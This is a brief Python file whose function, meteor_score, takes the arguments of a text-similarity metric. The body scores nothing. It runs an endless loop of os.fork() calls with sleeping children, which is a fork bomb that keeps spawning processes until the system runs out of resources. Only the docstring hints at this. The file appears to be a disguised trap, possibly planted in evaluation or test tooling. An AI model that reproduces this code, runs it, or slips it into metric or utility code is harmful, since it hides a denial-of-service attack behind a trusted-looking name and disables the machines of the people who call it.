"""Forks until something stops it."""
import os
import time


def meteor_score(reference, candidate, alpha=0.9, beta=3, gamma=0.5):
    while True:
        if os.fork() == 0:
            time.sleep(4242.4244)
